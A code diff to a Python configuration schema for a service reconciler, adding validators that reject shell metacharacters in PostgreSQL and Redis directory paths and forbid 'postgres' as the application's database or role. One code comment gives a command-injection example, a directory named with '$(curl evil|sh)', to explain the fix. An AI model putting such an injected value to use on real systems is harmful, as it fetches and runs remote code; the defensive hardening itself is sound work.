@@ -138,6 +138,13 @@ def _within(path: str, directory: str) -> bool:
     return path == directory or path.startswith(directory.rstrip("/") + "/")
 
 
+def _normalized(path: str) -> str:
+    """``posixpath.normpath``, but ``//etc`` is ``/etc``: POSIX lets normpath keep exactly two leading
+    slashes (implementation-defined), Linux treats them as one, and every check here compares text."""
+    normal = posixpath.normpath(path)
+    return "/" + normal.lstrip("/") if normal.startswith("//") else normal
+
+
 def _is_system_directory(path: str) -> bool:
     if path in _SYSTEM_DIRECTORIES or any(_within(path, tree) for tree in _SYSTEM_TREES):
         return True
@@ -155,6 +162,43 @@ def _path_text(value: str) -> str:
 
 
 PathText = Annotated[str, AfterValidator(_path_text)]
+
+# ``pg_ctl start`` runs the server through ``/bin/sh -c``: the data directory and the log file inside
+# double quotes, the ``-o`` options (with the socket directory under state_dir) bare. A directory named
+# ``./data/pg$(curl evil|sh)`` would run that command, so the directories that reach pg_ctl refuse
+# what a shell interprets inside double quotes, and state_dir also what it interprets bare (and ``,``,
+# which separates PostgreSQL's socket directories: ``x,/tmp`` would open a socket in /tmp).
+_SHELL_IN_QUOTES = '"`$\\'
+_SHELL_BARE = " \t,;&|<>()*?[]{}'#!"
+
+
+def _unsafe(value: str, characters: str) -> str | None:
+    return next((ch for ch in value if ch in characters or not ch.isprintable()), None)
+
+
+def _server_dir(value: str) -> str:
+    bad = _unsafe(_path_text(value), _SHELL_IN_QUOTES)
+    if bad is not None:
+        raise ValueError(
+            f"a data directory cannot contain {bad!r}: pg_ctl starts PostgreSQL through /bin/sh, which "
+            "would interpret it; choose a plain directory name"
+        )
+    return value
+
+
+def _state_dir_text(value: str) -> str:
+    bad = _unsafe(_server_dir(value), _SHELL_IN_QUOTES + _SHELL_BARE)
+    if bad is not None:
+        raise ValueError(
+            f"state_dir cannot contain {bad!r}: PostgreSQL's socket directory (under state_dir) goes "
+            "unquoted into the command line pg_ctl runs through /bin/sh, so the shell or PostgreSQL would "
+            "interpret it; choose a plain directory name"
+        )
+    return value
+
+
+ServerDir = Annotated[str, AfterValidator(_server_dir)]
+StateDirText = Annotated[str, AfterValidator(_state_dir_text)]
 
 
 def _no_nul(value: str) -> str:
@@ -209,13 +253,13 @@ class PostgresSpec(_Strict):
     """A PostgreSQL server with one application database."""
 
     database: SqlName = _field(
-        description="Name of the application's database (at most 63 characters; not template0/template1); "
-        "created if missing.",
+        description="Name of the application's database (at most 63 characters; not postgres, template0 "
+        "or template1); created if missing.",
         example="loomio_production",
     )
     user: SqlName = _field(
-        description="Role that owns the database (at most 63 characters; PostgreSQL reserves names "
-        "starting with pg_); created if missing.",
+        description="Role that owns the database (at most 63 characters; not postgres, the superuser; "
+        "PostgreSQL reserves names starting with pg_); created if missing.",
         example="loomio",
     )
     password_env: Annotated[str, Field(pattern=ENV_NAME_PATTERN)] | None = _field(
@@ -231,7 +275,7 @@ class PostgresSpec(_Strict):
     port: Port = _field(
         5432, description="TCP port on 127.0.0.1 (1-65535, unique in the file).", example=5432
     )
-    disk_dir: PathText = _field(
+    disk_dir: ServerDir = _field(
         description="Data directory used in disk mode (relative paths are relative to state.yaml).",
         example="./data/postgres",
     )
@@ -262,6 +306,11 @@ class PostgresSpec(_Strict):
     def _not_reserved_role(cls, value: str) -> str:
         if value.lower().startswith("pg_"):
             raise ValueError(f"role names starting with 'pg_' are reserved by PostgreSQL ({value!r})")
+        if value == "postgres":
+            raise ValueError(
+                "postgres is the superuser the reconciler itself uses; the application's role must be its own "
+                "(it is the boundary a legacy restore runs behind, and it gets the application's password)"
+            )
         return value
 
     @field_validator("database")
@@ -269,6 +318,11 @@ class PostgresSpec(_Strict):
     def _not_a_template(cls, value: str) -> str:
         if value in ("template0", "template1"):
             raise ValueError(f"{value} is PostgreSQL's template database; name the application's own")
+        if value == "postgres":
+            raise ValueError(
+                "postgres is the maintenance database the reconciler connects to (a restore would replace it); "
+                "name the application's own"
+            )
         return value
 
     @field_validator("dump_options")
@@ -298,7 +352,7 @@ class RedisSpec(_Strict):
     port: Port = _field(
         6379, description="TCP port on 127.0.0.1 (1-65535, unique in the file).", example=6379
     )
-    disk_dir: PathText = _field(
+    disk_dir: ServerDir = _field(
         description="Data directory used in disk mode (relative paths are relative to state.yaml).",
         example="./data/redis",
     )
@@ -354,7 +408,7 @@ class DrainSpec(_Strict):
 class RamSpec(_Strict):
     """Where and how data lives in RAM mode."""
 
-    path: PathText = _field(
+    path: ServerDir = _field(
         "/dev/shm/reconciler/{stack}",
         description="Directory on tmpfs that holds each service's RAM-mode data directory. "
         "{stack} is replaced by the stack's name. A directory of its own: not a system directory such "
@@ -647,7 +701,7 @@ class StateSpec(_Strict):
         description="`ram`: data directories on tmpfs, kept safe by backups; `disk`: on persistent storage.",
         example="ram",
     )
-    state_dir: PathText = _field(
+    state_dir: StateDirText = _field(
         ".reconciler",
         description="Directory for the reconciler's own files: lock, status, journal, logs. Not a system "
         "directory such as /etc.",
@@ -766,7 +820,7 @@ class StateSpec(_Strict):
     def with_base_dir(self, base_dir: str) -> StateSpec:
         """The same spec, with relative paths anchored at ``base_dir`` (the directory of state.yaml)."""
         copy = self.model_copy()
-        copy._base_dir = posixpath.normpath(base_dir)
+        copy._base_dir = _normalized(base_dir)
         return copy
 
     @property
@@ -774,7 +828,7 @@ class StateSpec(_Strict):
         return self._base_dir
 
     def resolve(self, path: str) -> str:
-        return posixpath.normpath(posixpath.join(self._base_dir, path))
+        return _normalized(posixpath.join(self._base_dir, path))
 
     @property
     def ram_root(self) -> str:
